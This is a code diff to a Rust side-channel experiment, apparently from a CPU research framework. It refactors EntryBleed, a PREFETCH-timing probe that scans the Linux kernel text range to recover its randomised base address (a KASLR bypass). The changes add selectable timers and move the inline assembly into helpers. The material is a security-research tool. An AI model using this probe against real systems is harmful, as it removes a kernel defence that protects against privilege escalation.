@@ -3,16 +3,19 @@ use perfect::*;
 use perfect::events::*;
 use perfect::stats::*;
 use perfect::experiments::*;
+use perfect::sidechannel::Gadget;
 use rand::prelude::*;
 use rand::distributions::Uniform;
 use std::collections::*;
 
 fn main() {
+    let args = ExperimentArgs::parse();
     let kallsyms = SymbolMap::from_kallsyms();
     let iters = 1024;
     let attempts = 64;
     EntryBleed::run(&kallsyms, TestConfig {
         iters, attempts, emit_syscall: true, random_order: false,
+        timer: args.timer.unwrap_or(EntryBleed::TIMER),
     });
 }
 
@@ -30,6 +33,9 @@ struct TestConfig {
 
     /// Randomize the order of probed addresses.
     random_order: bool,
+
+    /// Timer used to measure the PREFETCH instruction.
+    timer: Timer,
 }
 
 struct ProbeResult {
@@ -122,15 +128,18 @@ impl EntryBleed {
     /// Probe stride [in bytes]
     const STRIDE: usize   = 0x0000_0000_0020_0000;
 
-    /// Emit the code used to measure the PREFETCH instruction.
-    ///
-    /// The emitted function takes the target virtual address in RDI and
-    /// returns the difference between the two measurements in RAX.
-    ///
-    /// FIXME: 'dynasm-rs' doesn't support RDPRU yet.
+    /// Default timer used to measure the PREFETCH instruction
+    const TIMER: Timer = Timer::APERF;
+
+    /// Emit the gadget used to measure the PREFETCH instruction.
     ///
-    fn emit_probe(cfg: TestConfig) -> X64AssemblerFixed {
-        let mut f = X64AssemblerFixed::new(0x0000_0000_4001_0000, 0x4000);
+    /// The gadget takes the target virtual address in RDI and returns the
+    /// difference between the two measurements in RAX.
+    fn emit_probe(cfg: TestConfig) -> Gadget {
+        Gadget::assemble(|f| Self::emit_probe_body(f, cfg))
+    }
+
+    fn emit_probe_body(f: &mut X64Assembler, cfg: TestConfig) {
         dynasm!(f
             ; push      rbp
             ; push      rbx
@@ -153,15 +162,8 @@ impl EntryBleed {
         }
 
         // Measurement #1
-        dynasm!(f
-            ; mov rcx, 1 // With RDPRU, ECX=1 is APERF
-
-            ; mfence
-            ; lfence
-            ; .bytes [0x0f, 0x01, 0xfd] // RDPRU
-            ; mov r15, rax
-            ; lfence
-        );
+        f.emit_mfence();
+        f.emit_timer_start(cfg.timer, Gpr::R15 as u8);
 
         // NOTE: Maybe add knobs to emit different PREFETCH variants?
         dynasm!(f
@@ -170,12 +172,7 @@ impl EntryBleed {
         );
 
         // Measurement #2
-        dynasm!(f
-            ; lfence
-            ; .bytes [0x0f, 0x01, 0xfd] // RDPRU
-            ; lfence
-            ; sub rax, r15
-        );
+        f.emit_timer_end(cfg.timer, Gpr::R15 as u8, Gpr::Rax as u8);
 
         dynasm!(f
             ; pop r15
@@ -186,10 +183,7 @@ impl EntryBleed {
             ; pop rdi
             ; pop rbx
             ; pop rbp
-            ; ret
         );
-        f.commit().unwrap();
-        f
     }
 
     /// Given a list of addresses `addrs`, use `probe_fn` to measure the
@@ -224,12 +218,12 @@ impl EntryBleed {
         // Build the list of addresses we want to probe
         let mut addrs = Self::KTEXT_RANGE.step_by(Self::STRIDE).collect_vec();
         if cfg.random_order {
-            let mut rng = thread_rng();
+            let mut rng = perfect_rng();
             addrs.shuffle(&mut rng);
         }
 
         for iter in 0..cfg.attempts {
-            let candidate = Self::probe_ptes(&addrs, cfg, probe.as_extern_fn());
+            let candidate = Self::probe_ptes(&addrs, cfg, probe.as_fn());
             if let Some(c) = candidates.get_mut(&candidate.addr) {
                 *c += 1;
             } else {